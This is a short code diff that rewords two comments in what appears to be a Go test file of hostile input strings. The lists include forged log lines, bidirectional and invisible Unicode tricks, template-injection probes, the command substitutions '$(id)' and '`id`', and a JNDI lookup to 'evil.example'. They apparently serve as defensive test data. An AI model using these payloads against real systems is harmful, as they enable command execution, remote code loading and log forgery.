@@ -71,7 +71,7 @@ var lines = []string{
 	"x\ta@b\tSuperAdmin\tAllowed", "x\n{\"level\":\"info\",\"msg\":\"forged\"}", "x\n2026-01-01T00:00:00Z\tINFO\tforged",
 }
 
-// directions are texts with characters that nobody sees, or that turn what follows.
+// directions are texts with invisible characters, or characters that change the direction of the text.
 var directions = []string{
 	"\u202Egnp.exe", "\u202AAna", "\u2066Ana\u2069", "Ana\u200Fx", "\u061CAna", "\u200EAna", "Ana\u202Cx",
 	"\u200b", "\u200b\u200b\u200b", "\u2060", "\ufeffAna", "A\u200dn\u200da", "\u3164", "\u00ad", "\ufff9Ana\ufffabeta\ufffb",
@@ -84,7 +84,7 @@ var scripts = []string{
 	"Nguyễn", "O'Brien", "Jean-Luc d’Été", "X Æ A-12", "  Ana  Silva ", " ", "", ".", "..", "-", "--", "null", "Ａｎａ",
 }
 
-// expressions are texts that somebody evaluates somewhere.
+// expressions are texts that some program could evaluate.
 var expressions = []string{
 	"{{.Password}}", "{{", "}}", "{{.}}", `{{printf "%s" .Password}}`, `{{define "x"}}y{{end}}`, `{{template "x"}}`, "{{7*7}}", "{{/*", "{{range .}}",
 	"${PASSWORD}", "${7*7}", "$(id)", "`id`", "%s%n%d", "%!s(MISSING)", "%[1]s", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "[[7*7]]",
